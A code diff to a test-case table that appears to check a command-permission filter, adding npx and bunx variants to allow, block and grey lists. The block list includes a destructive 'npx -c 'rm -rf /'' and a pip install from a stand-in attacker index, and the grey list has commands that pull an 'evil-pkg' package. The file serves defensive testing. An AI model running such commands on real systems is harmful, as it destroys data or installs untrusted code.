@@ -25,6 +25,9 @@ export const cases: CaseTable = {
     "dotnet build -c Release",
     "composer install --no-interaction",
     "swift build -c release",
+    "npx -ptypescript tsc --noEmit",
+    "npx --call='tsc --noEmit'",
+    "bunx --bun vitest run",
   ],
   block: [
     "npx prettier --write ../../main/src",
@@ -33,6 +36,7 @@ export const cases: CaseTable = {
     "pip install -i https://evil.example/simple x",
     "npx prettier --write /srv/forge/main/src",
     "npx tsc --outDir /home/dev/out",
+    "npx -c 'rm -rf /'",
   ],
   grey: [
     "npm install --frobnicate",
@@ -54,5 +58,8 @@ export const cases: CaseTable = {
     "composer install --frob",
     "dotnet build --frob",
     "swift build --frob",
+    "npx -p evil-pkg tsc --noEmit",
+    "npx --package=evil-pkg tsc",
+    "bun x --frob vitest",
   ],
 };
